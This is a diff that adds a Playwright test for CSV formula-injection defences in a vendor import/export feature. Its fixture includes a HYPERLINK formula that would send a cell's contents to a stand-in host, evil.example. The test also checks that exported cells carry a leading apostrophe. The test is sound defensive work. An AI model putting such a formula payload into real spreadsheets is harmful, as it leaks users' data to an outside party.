@@ -119,3 +119,30 @@ test('a server refusal imports nothing and says why', async ({ page }) => {
   await dialog.getByRole('button', { name: 'Cancel' }).click();
   await expect(page.getByText(totalText)).toBeVisible();
 });
+
+test('a vendor named like a spreadsheet formula is exported as text (a leading \') and imported back to its exact name', async ({ page }) => {
+  await signIn(page, 'admin');
+  const toasts = await recordToasts(page);
+  await openVendors(page);
+  const formula = `=HYPERLINK("https://evil.example/?d="&B2,"Click me ${Date.now()}")`;
+  const template = withoutIds(await exportCsv(page)).slice(0, 2);
+  const row = [...template[1]!];
+  row[template[0]!.indexOf('vendorName')] = `'${formula}`; // as the export writes it
+  row[template[0]!.indexOf('description')] = "@SUM(1+1) and '-quoted";
+
+  await page.getByRole('button', { name: 'Import Data' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Import Vendors' });
+  await dialog.getByLabel('CSV file').setInputFiles({ name: 'vendors.csv', mimeType: 'text/csv', buffer: Buffer.from(writeCsv([template[0]!, row])) });
+  // The preview shows the name as stored: the formula's text, without the guard.
+  await expect(dialog.getByText(`Line 2: ${formula}`, { exact: true })).toBeVisible();
+  await dialog.getByRole('button', { name: 'Import 1 vendor' }).click();
+  await expect(dialog).toBeHidden();
+  await expect.poll(toasts).toContain('1 vendor imported successfully');
+
+  const [header, ...rows] = await exportCsv(page);
+  const exported = rows.find((cells) => cells[header!.indexOf('vendorName')] === `'${formula}`);
+  expect(exported, 'the vendor is exported with its name behind a leading apostrophe').toBeDefined();
+  expect(exported![header!.indexOf('description')]).toBe("'@SUM(1+1) and '-quoted");
+  // No cell of the file would start a formula in Excel or Sheets.
+  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+});
